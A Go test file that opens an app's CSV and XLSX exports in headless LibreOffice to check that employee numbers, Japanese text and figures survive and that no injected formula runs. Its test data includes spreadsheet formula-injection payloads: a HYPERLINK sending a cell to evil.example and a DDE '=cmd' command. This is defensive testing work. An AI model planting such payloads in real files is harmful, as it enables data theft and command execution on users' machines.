package admin

import (
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"crosstalk/app"
	"crosstalk/ui/internal/testapp"
)

// The exports are opened in a real spreadsheet: LibreOffice Calc, which,
// like Excel, reads 00123 in a CSV as the number 123 and evaluates
// formulas when it opens one. The CI installs it (.ci/run).

// sofficeTimeout bounds one conversion; a cold start takes a few seconds.
const sofficeTimeout = 3 * time.Minute

// soffice converts files with LibreOffice, headless, into outDir as
// format (as --convert-to takes it), with its own profile under dir so
// that tests running at the same time do not share one; infilter, when
// not "", is the import filter and its options.
func soffice(t *testing.T, dir, outDir, format, infilter string, files ...string) {
	t.Helper()
	bin, err := exec.LookPath("soffice")
	if err != nil {
		t.Fatal("LibreOffice (soffice) is not on PATH; this test opens the exports in it. " +
			"Install it with: apt-get install -y --no-install-recommends libreoffice-calc-nogui " +
			"(Debian 12; .ci/run installs it)")
	}
	profile := url.URL{Scheme: "file", Path: filepath.Join(dir, "lo-profile")}
	args := []string{"-env:UserInstallation=" + profile.String(), "--headless", "--norestore"}
	if infilter != "" {
		args = append(args, "--infilter="+infilter)
	}
	args = append(args, "--convert-to", format, "--outdir", outDir)
	args = append(args, files...)
	ctx, cancel := context.WithTimeout(context.Background(), sofficeTimeout)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, args...)
	cmd.Env = append(os.Environ(), "HOME="+dir) // nothing of the user's is read or written
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("soffice %s: %v\n%s", strings.Join(args, " "), err, out)
	}
	for _, f := range files {
		name := strings.TrimSuffix(filepath.Base(f), filepath.Ext(f)) + "." + strings.SplitN(format, ":", 2)[0]
		if _, err := os.Stat(filepath.Join(outDir, name)); err != nil {
			t.Fatalf("soffice made no %s: %v\n%s", name, err, out)
		}
	}
}

// loCell is one cell of a workbook LibreOffice wrote.
type loCell struct {
	name    string // A1
	value   string // raw: a number as written, text as it is
	typ     excelize.CellType
	formula string
}

func (c loCell) number() bool {
	return c.typ == excelize.CellTypeNumber || c.typ == excelize.CellTypeUnset
}

// loSheet reads the cells of a sheet of the workbook at path, row by row.
func loSheet(t *testing.T, x *excelize.File, sheet string) [][]loCell {
	t.Helper()
	rows, err := x.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	out := make([][]loCell, len(rows))
	for r, row := range rows {
		for c := range row {
			name, _ := excelize.CoordinatesToCellName(c+1, r+1)
			v, _ := x.GetCellValue(sheet, name, excelize.Options{RawCellValue: true})
			typ, _ := x.GetCellType(sheet, name)
			f, _ := x.GetCellFormula(sheet, name)
			out[r] = append(out[r], loCell{name: name, value: v, typ: typ, formula: f})
		}
	}
	return out
}

func openXLSX(t *testing.T, path string) *excelize.File {
	t.Helper()
	x, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatalf("%s does not open: %v", path, err)
	}
	t.Cleanup(func() { x.Close() })
	return x
}

// loCSVDate is a date as the weeks' table writes it, which a spreadsheet
// turns into a date.
var loCSVDate = regexp.MustCompile(`^\d{4}/\d{2}/\d{2}$`)

// TestExportsInLibreOffice opens every CSV and the workbook the views
// write in LibreOffice Calc and reads back what it made of them (as a
// workbook it wrote): Japanese intact, the employee numbers 00123 and
// 0012E3 as written and as text, figures (a negative one too) as numbers,
// text that starts with a formula character as text, and no formula in
// any cell but the employee numbers of a CSV, each a string constant.
func TestExportsInLibreOffice(t *testing.T) {
	testapp.Japanese(t)
	dir := t.TempDir()
	f := newFakeAdmin(app.RoleSecretariat)
	d := f.dashboard
	d.Survey.NPS = -20
	d.Comments = []string{"他社の方の話は新鮮でした。", `=HYPERLINK("https://evil.example/?"&A1,"詳細")`, "-1+2", "@SUM(A1:A9)"}
	acts := []app.Activity{
		{PersonRef: app.PersonRef{EmployeeNo: "00123", Name: "山田 太郎", CompanyID: "c-sakura"}, Joined: true, OffersSent: 3, OffersReceived: 2, TalksHeld: 1},
		{PersonRef: app.PersonRef{EmployeeNo: "0012E3", Name: "髙橋 美咲", CompanyID: "c-aozora"}, Joined: true, OffersSent: 1},
		{PersonRef: app.PersonRef{EmployeeNo: "1/2", Name: `=cmd|' /C calc'!A0`, CompanyID: "c-sakura"}},
		{PersonRef: app.PersonRef{EmployeeNo: `9"&A1&"`, Name: "+81-3-1234-5678", CompanyID: "c-sakura"}},
	}
	exp := testNow.AddDate(0, 0, 14)
	invs := []app.Invitation{
		{EmployeeNo: "00123", Name: "山田 太郎", Kana: "やまだ たろう", Code: "K7QX-M2PA-WD9R", ExpiresAt: &exp},
		{EmployeeNo: "0012E3", Name: "=1+1", Kana: "－さとう", Code: "ABCD-EFGH-JKLM", ExpiresAt: &exp},
	}
	write := func(name string, fn func(*bytes.Buffer) error) string {
		var b bytes.Buffer
		if err := fn(&b); err != nil {
			t.Fatal(err)
		}
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, b.Bytes(), 0o600); err != nil {
			t.Fatal(err)
		}
		return path
	}
	csvs := []string{
		write("figures.csv", func(b *bytes.Buffer) error {
			return WriteDashboardCSV(b, d, "2026年度 第1期", "すべての会社", testNow)
		}),
		write("activity.csv", func(b *bytes.Buffer) error { return WriteActivityCSV(b, acts, f.companies) }),
		write("invitations.csv", func(b *bytes.Buffer) error { return WriteInvitationsCSV(b, invs, "https://crosstalk.example.jp") }),
	}
	book := write("workbook.xlsx", func(b *bytes.Buffer) error {
		return WriteDashboardXLSX(b, d, "2026年度 第1期", "すべての会社", testNow, acts, f.companies)
	})

	// The CSVs, read as Excel reads them: UTF-8 (the BOM says so; this
	// LibreOffice needs telling), comma-separated, formulas evaluated.
	fromCSV := filepath.Join(dir, "from-csv")
	soffice(t, dir, fromCSV, "xlsx", "CSV:44,34,76,1", csvs...)
	employeeNos := map[string]bool{}
	for _, path := range csvs {
		raw, _ := os.ReadFile(path)
		name := strings.TrimSuffix(filepath.Base(path), ".csv")
		x := openXLSX(t, filepath.Join(fromCSV, name+".xlsx"))
		got := loSheet(t, x, x.GetSheetList()[0])
		eachCSVCell(t, name, raw, got, func(where, w string, cell loCell) {
			switch {
			case stringFormula.MatchString(w): // an employee number
				no := strings.ReplaceAll(w[2:len(w)-1], `""`, `"`)
				employeeNos[no] = true
				if cell.value != no || cell.typ != excelize.CellTypeFormula || !stringFormula.MatchString("="+cell.formula) {
					t.Errorf("%s: the employee number %q opens as %+v", where, no, cell)
				}
			case cell.formula != "":
				t.Errorf("%s: %q opens as the formula %q", where, w, cell.formula)
			case loCSVDate.MatchString(w):
				if !cell.number() {
					t.Errorf("%s: the date %q opens as %+v", where, w, cell)
				}
			default:
				checkFigureOrText(t, where, w, cell)
			}
		})
	}
	for _, no := range []string{"00123", "0012E3", "1/2", `9"&A1&"`} {
		if !employeeNos[no] {
			t.Errorf("the employee number %q is not in the CSVs as a string constant", no)
		}
	}
	// Column A of the people, as the spreadsheet shows it: the numbers
	// as written, as text.
	for name, nos := range map[string][]string{
		"activity":    {"00123", "0012E3", "1/2", `9"&A1&"`},
		"invitations": {"00123", "0012E3"},
	} {
		x := openXLSX(t, filepath.Join(fromCSV, name+".xlsx"))
		sheet := x.GetSheetList()[0]
		for i, no := range nos {
			cell := "A" + strconv.Itoa(i+2)
			v, _ := x.GetCellValue(sheet, cell)
			typ, _ := x.GetCellType(sheet, cell)
			if v != no || (typ != excelize.CellTypeFormula && typ != excelize.CellTypeSharedString) {
				t.Errorf("%s.csv %s: the employee number %q shows as %q (%v)", name, cell, no, v, typ)
			}
		}
	}

	// The workbook, opened and saved again: every cell as it was, with
	// no formula at all.
	fromBook := filepath.Join(dir, "from-xlsx")
	soffice(t, dir, fromBook, "xlsx", "", book)
	ours := openXLSX(t, book)
	theirs := openXLSX(t, filepath.Join(fromBook, "workbook.xlsx"))
	if a, b := ours.GetSheetList(), theirs.GetSheetList(); strings.Join(a, "|") != strings.Join(b, "|") {
		t.Fatalf("sheets %q, LibreOffice %q", a, b)
	}
	seen := map[string]bool{}
	for _, sheet := range ours.GetSheetList() {
		want, got := loSheet(t, ours, sheet), loSheet(t, theirs, sheet)
		for r, row := range want {
			for c, w := range row {
				if w.value == "" {
					continue
				}
				var cell loCell
				if r < len(got) && c < len(got[r]) {
					cell = got[r][c]
				}
				seen[w.value] = true
				where := sheet + "!" + w.name
				switch {
				case cell.formula != "":
					t.Errorf("%s: %q opens as the formula %q", where, w.value, cell.formula)
				case w.number():
					a, _ := strconv.ParseFloat(w.value, 64)
					b, err := strconv.ParseFloat(cell.value, 64)
					if err != nil || a != b || !cell.number() {
						t.Errorf("%s: the figure %s opens as %+v", where, w.value, cell)
					}
				case cell.value != w.value || cell.typ != excelize.CellTypeSharedString:
					t.Errorf("%s: the text %q opens as %+v", where, w.value, cell)
				}
			}
		}
	}
	for _, v := range []string{"00123", "0012E3", "-20", "山田 太郎", "髙橋 美咲", `=cmd|' /C calc'!A0`, `=HYPERLINK("https://evil.example/?"&A1,"詳細")`} {
		if !seen[v] {
			t.Errorf("the workbook has no cell %q", v)
		}
	}
}

// eachCSVCell reads raw, a CSV as the exports write it (UTF-8 with a
// BOM), as Excel reads it, and calls check with each field that is not
// empty, the cell at its place in got (the spreadsheet LibreOffice made
// of the same file) and where it is ("NAME.csv ROW:COLUMN"). No field of
// these holds a line break, so a record's line is its row: the reader
// skips the blank line between two tables, the spreadsheet keeps it as an
// empty row.
func eachCSVCell(t *testing.T, name string, raw []byte, got [][]loCell, check func(where, field string, cell loCell)) {
	t.Helper()
	cr := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(raw, []byte(bom))))
	cr.FieldsPerRecord = -1
	for {
		row, err := cr.Read()
		if err == io.EOF {
			return
		}
		if err != nil {
			t.Fatal(err)
		}
		line, _ := cr.FieldPos(0)
		r := line - 1
		for c, w := range row {
			if w == "" {
				continue
			}
			var cell loCell
			if r < len(got) && c < len(got[r]) {
				cell = got[r][c]
			}
			check(name+".csv "+strconv.Itoa(r+1)+":"+strconv.Itoa(c+1), w, cell)
		}
	}
}

// checkFigureOrText checks that the field w of a CSV opened as cell: a
// figure as the same number, anything else as the same text. It reports
// whether w is a figure.
func checkFigureOrText(t *testing.T, where, w string, cell loCell) (figure bool) {
	t.Helper()
	if n, err := strconv.ParseFloat(w, 64); err == nil {
		if v, err := strconv.ParseFloat(cell.value, 64); err != nil || v != n || !cell.number() {
			t.Errorf("%s: the figure %q opens as %+v", where, w, cell)
		}
		return true
	}
	if cell.value != w || cell.typ != excelize.CellTypeSharedString {
		t.Errorf("%s: the text %q opens as %+v", where, w, cell)
	}
	return false
}
